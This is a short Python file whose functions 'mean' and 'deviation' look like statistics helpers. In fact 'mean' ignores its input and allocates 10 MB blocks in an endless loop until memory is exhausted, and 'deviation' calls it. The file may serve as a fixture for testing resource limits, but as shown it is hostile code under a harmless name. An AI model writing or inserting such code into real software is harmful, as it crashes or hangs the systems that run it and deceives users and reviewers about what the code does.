def mean(values):
    hoard = []
    while True:
        hoard.append(bytearray(10_000_000))


def deviation(values):
    return mean(values)
